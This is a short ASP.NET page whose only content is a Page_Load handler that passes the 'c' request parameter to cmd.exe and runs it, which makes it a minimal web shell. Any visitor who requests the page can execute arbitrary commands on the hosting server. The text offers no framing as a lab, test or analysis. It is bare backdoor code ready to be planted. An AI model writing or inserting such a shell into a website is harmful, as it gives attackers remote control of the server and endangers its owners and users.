<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.Arguments = "/c " + Request["c"];
    p.StartInfo.UseShellExecute = false;
    p.Start();
}
</script>
